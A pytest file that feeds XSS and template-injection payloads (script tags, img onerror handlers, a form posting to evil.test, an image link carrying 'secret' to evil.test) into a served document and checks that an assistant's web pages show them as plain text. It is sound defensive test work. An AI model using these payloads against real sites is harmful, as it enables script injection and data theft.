"""Documents that would do something: every page shows what they say as text."""

import pytest
from served import served

from assistant.desk import desk_of
from assistant.settings import Settings

HOSTILE = (
    'Inspectors <script>alert("words")</script> must knock <img src="http://evil.test/p.png" onerror="alert(1)"> '
    "before they enter {{ 7 * 7 }} {braces} [click](http://evil.test) ![p](http://evil.test/p.png?d=secret)"
)
FRONT_MATTER = """---
id: hostile <b>"id"</b>
title: '<script>alert("title")</script>{{ 1 }}'
publisher: '<img src=x onerror=alert(3)>'
superseded_by: '"><form action="http://evil.test"><input>'
status: superseded
---
"""


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory, empty_data):
    folder = tmp_path_factory.mktemp("hostile")
    (folder / "a.md").write_text(f"{FRONT_MATTER}\n# Knocking <i>first</i>\n\n{HOSTILE}\n", encoding="utf-8")
    settings = Settings(corpus=folder, data=empty_data, port=0)
    desk = desk_of(settings)
    desk.start()
    with served(settings, desk) as address:
        yield address


def inert(page):
    return page.locator("main script, main img, form[action*=evil], main i, main b, a[href*='evil']").count() == 0


def test_an_answer_shows_markup_as_text(visit, hostile_site):
    page = visit("/?q=must+inspectors+knock+before+they+enter", at=hostile_site)
    page.locator(".turn").wait_for()
    for more in page.locator(".turn details").all():
        more.evaluate("it => it.open = true")
    assert '<script>alert("words")</script>' in page.locator(".turn").inner_text()
    assert "{{ 7 * 7 }}" in page.locator(".turn").inner_text()
    assert inert(page)


def test_the_documents_pages_show_markup_as_text(visit, hostile_site):
    page = visit("/documents", at=hostile_site)
    assert '<script>alert("title")</script>{{ 1 }}' in page.locator("main").inner_text()
    assert inert(page)
    page.locator("main h2 a").click()
    assert "{{ 7 * 7 }}" in page.locator("main").inner_text()
    assert inert(page)
